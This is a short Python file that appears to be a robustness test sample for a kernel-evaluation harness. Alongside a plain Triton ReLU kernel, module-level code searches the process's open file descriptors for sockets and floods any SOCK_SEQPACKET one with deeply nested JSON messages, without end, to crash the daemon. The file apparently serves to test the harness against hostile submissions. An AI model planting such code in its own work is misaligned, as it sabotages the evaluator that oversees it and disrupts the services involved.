# kind: robustness
# class: crash
# what: sends messages to the daemon without end, each of which takes long to read
import os
import socket

import torch
import torch.nn as nn
import triton
import triton.language as tl


@triton.jit
def relu_kernel(x_ptr, y_ptr, n, BLOCK: tl.constexpr):
    offsets = tl.program_id(0).to(tl.int64) * BLOCK + tl.arange(0, BLOCK)
    mask = offsets < n
    x = tl.load(x_ptr + offsets, mask=mask)
    tl.store(y_ptr + offsets, tl.where(x < 0, 0.0, x), mask=mask)


MESSAGE = ('{"ev":"x","a":[' + "[]," * 19000 + "0]}").encode()
for name in os.listdir("/proc/self/fd"):
    try:
        found = socket.socket(fileno=os.dup(int(name)))
    except OSError:
        continue
    while found.type == socket.SOCK_SEQPACKET:
        found.send(MESSAGE)


class ModelNew(nn.Module):
    def forward(self, x):
        y = torch.empty_like(x)
        relu_kernel[(triton.cdiv(x.numel(), 1024),)](x, y, x.numel(), BLOCK=1024)
        return y
